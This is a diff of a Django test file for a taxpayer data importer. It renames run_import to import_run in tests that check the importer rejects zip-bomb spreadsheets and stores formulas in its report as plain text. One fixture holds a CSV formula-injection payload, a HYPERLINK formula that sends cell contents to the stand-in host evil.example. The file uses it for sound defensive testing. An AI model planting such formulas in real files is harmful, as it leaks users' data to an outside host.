@@ -15,7 +15,7 @@ from django.utils import translation
 from triplec.accounts.roles import Role
 from triplec.audit.models import AuditEntry
 from triplec.imports.models import ImportRun
-from triplec.imports.services import run_import
+from triplec.imports.services import import_run
 from triplec.tests.bombs import import_in_subprocess, write_sparse_xlsx, write_xlsx_bomb
 from triplec.tests.support import database_url_for_subprocess, make_user
 
@@ -43,7 +43,7 @@ def test_it_refuses_a_small_bomb_in_process_with_a_clear_indonesian_message(offi
     path = tmp_path / "wp.xlsx"
     write_xlsx_bomb(str(path), sheet_mb=3)
     with override_settings(IMPORT_XLSX_MAX_UNCOMPRESSED_MB=2):
-        result = run_import(kind="taxpayers", path_or_fileobj=str(path))
+        result = import_run(kind="taxpayers", path_or_fileobj=str(path))
     assert result.exit_code == 2
     with translation.override("id"):
         assert "lebih dari 2 MB setelah diekstrak" in result.message
@@ -67,7 +67,7 @@ def test_it_refuses_a_zip_whose_headers_understate_the_sizes(office, tmp_path):
 
         xlsxguard.zipfile.ZipFile.infolist = lying
         try:
-            result = run_import(kind="taxpayers", path_or_fileobj=str(path))
+            result = import_run(kind="taxpayers", path_or_fileobj=str(path))
         finally:
             xlsxguard.zipfile.ZipFile.infolist = real
     with translation.override("id"):
@@ -82,7 +82,7 @@ def test_it_still_imports_an_ordinary_workbook(office, tmp_path):
         sheet.append([npwp15(i), f"Wajib Pajak {i}", "922"])
     path = tmp_path / "wp.xlsx"
     book.save(path)
-    assert run_import(kind="taxpayers", path_or_fileobj=str(path)).imported == 50
+    assert import_run(kind="taxpayers", path_or_fileobj=str(path)).imported == 50
 
 
 @override_settings(IMPORT_MAX_MB=1)
@@ -101,7 +101,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
 
 def test_it_writes_formulas_in_the_import_report_as_text(office, write):
     path = write("wp.csv", f"npwp;nama;kode_kpp\n{FORMULA};Budi;922\n{npwp15(1)};+SUM(1;2);999\n")
-    result = run_import(kind="taxpayers", path_or_fileobj=path)
+    result = import_run(kind="taxpayers", path_or_fileobj=path)
     assert result.rejected == 2
     values = [row["value"] for row in report_rows(result.report_path)]
     stored = ImportRun.objects.get().report_csv
